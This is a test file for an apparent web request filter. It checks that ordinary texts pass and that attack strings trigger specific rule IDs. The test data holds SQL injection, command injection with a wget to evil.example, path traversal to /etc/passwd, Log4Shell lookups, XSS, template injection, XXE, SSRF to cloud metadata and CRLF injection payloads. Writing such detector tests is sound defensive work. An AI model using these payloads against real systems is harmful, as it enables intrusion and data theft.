// biome-ignore-all lint/suspicious/noTemplateCurlyInString: that is how people write about templates
/** What people send in earnest and looks like an attack to a list of strings: by kind, in a form, a query and a document. */
import { matchedIds, send, sendJson, sendRequest, sites } from './test-support/send.ts';

const base64 = (length: number, seed: number): string =>
  Buffer.from(Array.from({ length }, (_, at) => (at * at * 31 + at * seed + (at >> 3)) & 255)).toString(
    'base64',
  );
const claims = { sub: '4711', name: 'Jane O’Neill', scope: 'read:a write:b', iat: 1_700_000_000 };
const token = [{ alg: 'RS256', typ: 'JWT' }, claims]
  .map((part) => Buffer.from(JSON.stringify(part)).toString('base64url'))
  .join('.');

const TEXTS: Readonly<Record<string, readonly string[]>> = {
  'chat messages': [
    '3 and not more',
    '2 or not available in (London)',
    '10 and not 20, between the two',
    'logs/access.log',
    "it's 5' or 6' tall, isn't it",
    "say 'true' or 'false'",
    'style="color: red /* as before */; width: calc(1px)"',
    'brb, sleep(5) seconds and I am back',
    '1 and 2 or 3',
    'enter 0 or 1',
    'pages 3 and 4, or 5 & 6',
    "it's either 'yes' or 'no', and 'maybe' is out",
    "don't; can't; won't -- whatever",
    'ok -- see you at 7; bring "the thing" & snacks',
    'Select all, then delete from the list what you do not need',
    'Which one? id | name | price',
    "'*' is a special case, and '--' ends the options",
    'lol <3 <-- that is me =)',
    'we need $5/$10 bills; 50% of 100 = 50',
    'rock & roll | jazz; cat and dog > bird',
    '\nWhich of you can find the keys?',
    'Tom said "drop it" and left; update me when he is back',
    'score was 3-2 (or 2-3)?',
    'The trade union select committee',
    'To delete a task:',
    'To delete the backup, run:',
    'Script Execute (tsx): programs & their files',
    'All four (4) except select few',
    `Thank you ${Array.from({ length: 25 }, (_, at) => `@guest${at}`).join(' ')} and all others`,
    JSON.stringify({ text: Array.from({ length: 25 }, (_, at) => `@guest${at}`).join(' ') }),
    '(see above); lock the door -- please',
    '- fix (again); rename the flag --verbose',
    '(done); grant access to Jane -- please',
    '(late); kill the old job #12',
    '(see `name`) select one of them from the list -- thanks',
    'Read doc("https://a.example/") first',
    '@anna @bob @carl @dora @emil @fritz @gina @hans @ida @kim who comes tonight?',
    'please include "https://shop.example/terms" in the footer',
    'JVM\nGC pauses take 2 s, and gc logs are on',
    '.htaccess redirect',
    'E535: Illegal character after <%c>; E536: Comma required',
    'attribute given twice on the same <%s> element; authentication is required on %s',
    'wp-config.php where',
    '/etc/hosts mac bearbeiten',
    'C:\\windows\\system32 löschen',
    'https://search.example/search?q=wp-config.php+where&hl=de',
    '../shared/*',
    String.raw`text ~ "\"sql error\"" AND labels not in (spam) OR summary !~ test`,
    'level = "error" and service.name ~ "^checkout" and duration > 500ms',
    'Log4Shell: ${jndi:ldap://...} in a User-Agent was enough',
  ],
  'issues with SQL and shell': [
    'We filter by User.find({ deletedAt: { $ne: null } }) and it is slow, why?',
    'Your CSP must include "data:" for images',
    'Use { $lookup: { from: "orders" } } in the pipeline, then group',
    'select x from y where',
    'Why does `SELECT * FROM users` need a WHERE? I get "syntax error near \'id\'"',
    'git commit -m "fix; drop table"',
    'CREATE TABLE notes (id int); INSERT INTO notes VALUES (1);',
    "CREATE TABLE notes (id int, body text);\nINSERT INTO notes VALUES (1, 'first; second');\nDROP TABLE old;",
    '```bash\n$ npm version patch\n```',
    '```\nmkdir build\ncd build\n```',
    '``` sh\nnpm install left && npm test\n```',
    '`type` and `subtype` can be changed by callers',
    'The `exit` event says why; `echo` text stays on the screen',
    "Run `go list -m`, then look at '^example/a v1.9.0$'",
    'My script does `await sleep(1000)` between calls and time.sleep(1.5) in Python',
    'Globs: `**/*/**/*.test.ts`, `src/**/*`, `.github/**/*.yml`',
    'The shebang is #!/bin/bash\\n and nothing else',
    'Steps: 1) docker compose up; 2) open the page; 3) log in',
    '/usr/bin/editor\n    Generic name that points to the editor of this machine',
    'See --upload-pack=<program> in the manual',
    'Why `WHERE 1 = 1`? Also `ORDER BY 1` is unclear, name the column.',
    "If 1 = 1 is a tautology, is 'a' = 'a' one too? My book says \"or 1=1\" is how they get in.",
    'Why is SELECT * FROM users WHERE id = 1 OR 1=1 dangerous? Explain it for beginners.',
    '<p>Add <code>&lt;script src="/w.js" async&gt;&lt;/script&gt;</code> before <code>&lt;/body&gt;</code>.</p>',
    '<p>Type <code>&lt;script&gt;alert(1)&lt;/script&gt;</code> into the box and see.</p>',
    'From: "Keller, Jan" <jan@shop.example>\n\nIt is 3 * 4 = 12 and not 13; and 1=1 copy per seat.',
    'Your proxy must refuse http://127.0.0.1, http://[::1], http://169.254.169.254 and redirects to them',
    'The file is refused because of <!DOCTYPE stock SYSTEM "stock.dtd">. Can we leave it out?',
    'Use textContent where document.write(html) stood',
    '<p>Never build onclick="..." from data.</p>',
    'rule,what\n1,"<script",block\n2,"<b",keep',
    'path,size\n/etc/nginx/nginx.conf,1482\n../shared/logo.svg,912',
    'https://shop.example/../basket',
    '<pre>(&amp;(objectCategory=person)(!(level=2))(memberOf=CN=vpn,DC=example))</pre>',
  ],
  'code review': [
    'import { useState } from "react";',
    "print('found encoding %r' % encoding)",
    'I would write `if (a && b || c) return null;` here',
    "quote('abc def') -> 'abc%20def'",
    'Why `x.__class__.__name__` and not `type(x).__name__`? Generator.__init__() does the same.',
    'Add `-D warnings`; rename `foo` to `bar`; `data` is `undefined` here and `status` is `400`',
    'declare function normalize(data: Input, strict?: boolean): void;\ndeclare function next(): void;',
    'The bare `<script>` tag), and `import` resolves to a module',
    'We used `javascript:` URLs, which React warns about',
    'console.log(`end ${label} (${size} left)`) is noisy',
    'setTimeout(0) and `new Function` are both avoided by this change',
    "else if (s === '->' || s === '>>') next();",
    'Reads `document.cookie` once; see lib/session.ts',
    'const total = a.map((x) => x * 2).filter(Boolean).length; // ok?',
  ],
  'logs and traces': [
    '2026-01-02T03:04:05Z ERROR [main] com.example.App - failed: id=42 state=OPEN (retry 2/5)',
    'Traceback (most recent call last):\n  File "/app/main.py", line 3, in <module>\nKeyError: \'id\'',
    'GET /api/items?id=4&sort=name 200 12ms - "Mozilla/5.0 (X11; Linux x86_64)"',
    'at Object.<anonymous> (/srv/app/index.js:10:15)\n    at Module._compile (node:internal/modules/cjs/loader:1256:14)',
    "duration: 1532.112 ms  statement: SELECT pg_sleep(1.5), count(*) FROM big WHERE note LIKE '%it''s%'",
    `SELECT COUNT(*) FROM sessions WHERE data LIKE '%"cart"%' AND updated < NOW() - INTERVAL 2 DAY;`,
    'kernel: [ 12.34] usb 1-1: new high-speed device number 4 using xhci_hcd',
    'worker=3 cpu=97.5% mem=512MiB; restarting (signal 9)',
  ],
  'recipes and maths': [
    '2 cups flour; 1/2 tsp salt & 3 eggs -- mix, then rest 30 min (or 1 h)',
    'if x > 0 and y < 5 then |x - y| <= 5; x^2 + y^2 = r^2',
    'f(x) = (x - 1)(x + 2) / 3; f(2) = 4/3',
    '3 * 4 = 12, 12 / 4 = 3; 7 > 5 or 5 < 7',
    'Preheat to 180 °C || 350 °F; bake 20 -- 25 min',
    "Bernoulli's: p + 1/2 ρv² = const; Hooke's: F = -kx",
  ],
  'other languages': [
    '请问 sleep(5) 和 "select" 有什么区别？它们是 1 or 2 吗',
    '价格：¥100~200；数量>=3；选项 A|B',
    'Скажите, «select» — это команда? Она пишет: "ошибка 1 или 2"',
    'Ежели -- да; то «нет» не ответ (и точка)',
    "Das ist Müllers' Auto; 'so' oder 'so' -- egal. Größer > kleiner?",
    "Wie geht's? Union und Gruppe von A und B; update folgt",
    "Kullanıcı adı 'ayşe' veya 'fatma' olabilir; şifre = 8 karakter",
    "L'union fait la force; c'est l'un ou l'autre = même chose",
  ],
  'addresses, quotes and tables': [
    'See https://shop.example/list?id=4&sort=-price#top or http://a.example/x;v=1?q=a%20b',
    'traceId=e29cc40fcdb1d3da&domain=core&page=server/list&session=NDF_wr62&zone=2&mode=1',
    '> On Mon, Jane wrote:\n> > drop the table; select a new one\n> -- \n> Jane',
    'id;name;price\n1;"Tea; green";3,50\n2;"O\'Neill";4,00',
    'a,b,c\n1,"x=1",2\n-1,+2,=3',
    'title="sql" && product="shop" || author=="Jane"',
    'project = WEB AND status = Open ORDER BY created DESC',
    'from:jane to:tom subject:(tea OR coffee) -has:file',
    'C:\\Program Files (x86)\\Shop\\bin\\..\\conf\\a.ini cannot be opened; Windows says 0x80070005',
    'In MySQL 8 you can write WITH t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t) SELECT * FROM t; it counts.',
    'If a = b and b = c then a = c; or 1 = 1 holds trivially',
  ],
  'data of programs': [
    `data:image/png;base64,${base64(900, 7)}`,
    base64(600, 11),
    Buffer.from(base64(300, 3), 'base64').toString('base64url'),
    `${token}.${base64(64, 5).replaceAll(/[+/=]/g, 'x')}`,
    '[[13.4050,52.5200,34.1],[13.4051,52.5201,34.0],[-0.1276,51.5072,11]]',
    '<gpx><trk><trkseg><trkpt lat="52.52" lon="13.40"><ele>34.1</ele></trkpt></trkseg></trk></gpx>',
    '<samlp:Response ID="_8e8" Version="2.0"><saml:Issuer>https://idp.example/m</saml:Issuer><ds:DigestMethod Algorithm="http://www.w3.org/2000/09/xmldsig#sha1"/></samlp:Response>',
    '{"type":"page_view","props":{"path":"/a?b=1&c=2","ref":null,"v":[1,2,3]},"ua":"Mozilla/5.0 (X11)"}',
  ],
};

const FORMS = {
  form: (text: string) => ({
    target: '/comments',
    headers: ['Content-Type', 'application/x-www-form-urlencoded'],
    body: `comment=${encodeURIComponent(text)}`,
  }),
  query: (text: string) => ({ target: `/find?text=${encodeURIComponent(text)}` }),
  JSON: (text: string) => ({
    target: '/api',
    headers: ['Content-Type', 'application/json'],
    body: JSON.stringify({ id: 7, body: text }),
  }),
};

describe.each(['low', 'medium'] as const)('at %s', (sensitivity) => {
  it.each(Object.entries(TEXTS))('%s pass wherever they stand', (_, texts) => {
    const stopped = texts.flatMap((text) =>
      Object.entries(FORMS).flatMap(([form, request]) => {
        const ids = matchedIds(sendRequest(sites[sensitivity], request(text)));
        return ids.length > 0 ? [`${form}: ${ids.join(' ')}: ${text.slice(0, 80)}`] : [];
      }),
    );
    expect(stopped).toEqual([]);
  });
});

/** High refuses what is active and what is a weak sign of it; how a page looks, and how it is written, is neither. */
const AT_HIGH: readonly string[] = [
  '<!-- wp:group {"layout":{"type":"constrained"},"style":{"spacing":{"padding":{"top":"20px"}}}} -->\n<div class="wp-block-group" style="padding-top:20px;background:url(/a.jpg)"><!-- wp:paragraph --><p>It\'s <em>tea</em> &amp; cake</p><!-- /wp:paragraph --></div>\n<!-- /wp:group -->',
  "<?php\n/**\n * Title: Footer\n */\nreturn array(\n\t'title' => __( 'Footer', 'shop' ),\n\t'content' => '<!-- wp:spacer --><div style=\"height:0\"></div><!-- /wp:spacer -->',\n);",
  '<?xml version="1.0" encoding="UTF-8"?><stock><item id="7">tea</item></stock>',
  '<svg width="10" height="10" viewBox="0 0 10 10"><path d="M0 0h10v10z" fill="red"/></svg>',
  '35% cotton and 65% polyester',
  "Mark, 'call me when you get there and I'll come out'",
  'Name -- as he says; the "not" is in quotes',
  'Use it so:\n\n```bash\n$ npm install left && python -m pip install right\n```\n',
  "const left = require('left');\nconst right = require('../lib/right');",
  'The users are listed so:\n\n    cat /etc/passwd\n',
];

describe('at high', () => {
  it.each(AT_HIGH)('passes too: %j', (text) => {
    expect(matchedIds(send(sites.high, text))).toEqual([]);
  });
});

describe('what stands beside them is still an attack', () => {
  it.each([
    [1003, 'sleep(5)'],
    [1003, '1-sleep(5)'],
    [1003, "x' and sleep(5) and 'a'='a"],
    [1001, '-1 or 1'],
    [1009, "tea'); DROP TABLE orders; --"],
    [1009, "create'; drop table orders; -- '"],
    [1003, "I am looking for tea of that kind' or 'a'='a"],
    [1001, "'='"],
    [1002, 'x` a) select password from users -- `'],
    [1002, 'x` json) select * from users -- `'],
    [1002, 'x` a) delete from users -- `'],
    [1002, "x` a) insert into users values ('me') -- `"],
    [1002, "x` a) update users set role = 'admin' -- `"],
    [1003, 'x` a) select name, sleep(5) from users -- `'],
    [1005, 'x` a) select (select password from users) -- `'],
    [1003, "x'); truncate users --"],
    [1003, "x'; grant dba to eve#"],
    [1003, "x'; rename table users to gone -- a"],
    [1003, "x'); lock tables users write-- -"],
    [1003, "x'; kill query 12 -- a"],
    [1003, "x'; flush privileges; -- a"],
    [13001, "doc('http://evil.example/x')"],
    [13001, "(doc('http://evil.example/x'))"],
    [13001, "x' | doc('file:///srv/x') | '"],
    [1001, "x' 'y' 'z' or 1=1 -- "],
    [1002, "x' '' '' union select 1,pw from staff -- "],
    [1001, "x'\u0085or\u00851=1--"],
    [1001, '1="1" or 2="2"'],
    [3002, '/etc/passwd\0 is a file of ours'],
    [3002, '/etc/passwd x'],
    [3002, 'https://search.example/search?q=/etc/passwd&hl=de'],
    [3001, '../../etc/passwd where'],
    [6001, '${jndi:${lower:l}dap://a.example/x}'],
    [6001, '${jndi:ldap:${::-/}/a.example/x}'],
    [3002, 'file:///etc/passwd#a is a file of ours'],
    [4001, '`id`'],
    [4001, '`cat /srv/x`;wget evil.example'],
    [4001, '\ncat /srv/x'],
    [4003, '/???/c?t /srv/x'],
    [4003, '/bin/c?t'],
    [2001, '<script>x;alert(1)</script>'],
    [2001, '<script>`${alert(1)}`</script>'],
    [8001, '{{x.__class__.__mro__[1].__subclasses__()}}'],
    [7001, '${system}(id)'],
    [1003, "Why? ' or 1=1or 2=2 or 'a'='a"],
    [1001, '5or 1=1'],
    [1002, 'SELECT id FROM a UNION SELECT password FROM users'],
    [2001, '<p>See <code>&lt;b&gt;</code></p><img src=x onerror=alert(1)>'],
    [2001, '<code>&lt;b&gt;</code>&lt;script&gt;alert(1)&lt;/script&gt;'],
    [2001, '<p title="<code>">&lt;script&gt;alert(1)&lt;/script&gt;<b title="</code>">'],
    [2001, '<code><script>alert(1)</script></code>'],
    [2001, '<a title="..." onclick="alert(1)">'],
    [2001, '<script"x">alert(1)</script>'],
    [3002, '/etc/passwd,a'],
    [3001, 'path,size\n../../../../srv/key,3'],
    [3001, 'https://shop.example/../../../srv/key'],
    [10001, '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'],
    [10001, '<!DOCTYPE a SYSTEM "a.dtd" [<!ENTITY x "y">]><a/>'],
    [11001, 'see http://169.254.169.254/latest/meta-data/'],
    [11001, 'url: http://169.254.169.254'],
    [11001, 'x http://[::1]/admin'],
    [13001, 'x)(&(a=b)(c=*)'],
    [15001, undefined],
  ])('%i stops %j', (id, text) => {
    const audit =
      text === undefined
        ? sendRequest(sites.medium, { target: '/go?to=a%0d%0aSet-Cookie:%20a=1' })
        : send(sites.low, text);
    expect(matchedIds(audit)).toContain(id);
    expect(audit.interruption).not.toBeNull();
  });

  it.each([
    [2003, "';document.write(name);'"],
    [2003, 'document.write(name)'],
    [2003, "<code>&lt;script&gt;';alert(1)//&lt;/script&gt;</code>"],
    [2003, '<code>&lt;script&gt;</code>alert(1)'],
    [2003, '" onfocus="/*<code>&lt;*/alert(1)/*</code>*/'],
    [1006, 'x` a where 1=1 -- `'],
  ])('%i stops %j at medium', (id, text) => {
    expect(matchedIds(send(sites.medium, text))).toContain(id);
  });

  it('and a body that says JSON and is base64 of no text is no broken document', () => {
    expect(matchedIds(sendJson(sites.medium, base64(120, 11)))).toEqual([]);
    expect(sendJson(sites.medium, '{"a":').interruption).not.toBeNull();
    const hidden = Buffer.from("1' union select password from users-- -").toString('base64');
    expect(sendJson(sites.medium, hidden).interruption).not.toBeNull();
  });
});
